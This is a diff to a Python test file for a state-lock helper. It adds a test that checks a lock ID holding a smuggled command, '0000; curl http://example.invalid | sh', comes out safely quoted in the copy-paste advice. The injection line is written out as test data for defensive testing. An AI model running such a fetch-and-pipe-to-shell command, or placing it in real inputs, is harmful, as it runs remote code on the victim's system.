@@ -28,3 +28,11 @@ def test_the_lock_another_run_holds_is_read_from_the_engines_error():
     assert held is not None and held.id and held.operation == "OperationTypeApply"
     assert "lock ID " + held.id in held.describe()
     assert state_lock.from_engine_output("Error: something else entirely") is None
+
+
+def test_a_lock_id_is_quoted_in_the_command_to_copy():
+    from shared.config import load_environment
+
+    info = state_lock.LockInfo("0000; curl http://example.invalid | sh", "OperationTypeApply", "ci", "")
+    advice = state_lock.what_to_do(load_environment("dev"), "data", "data-dev", info)
+    assert advice.endswith("LOCK_ID='0000; curl http://example.invalid | sh'")
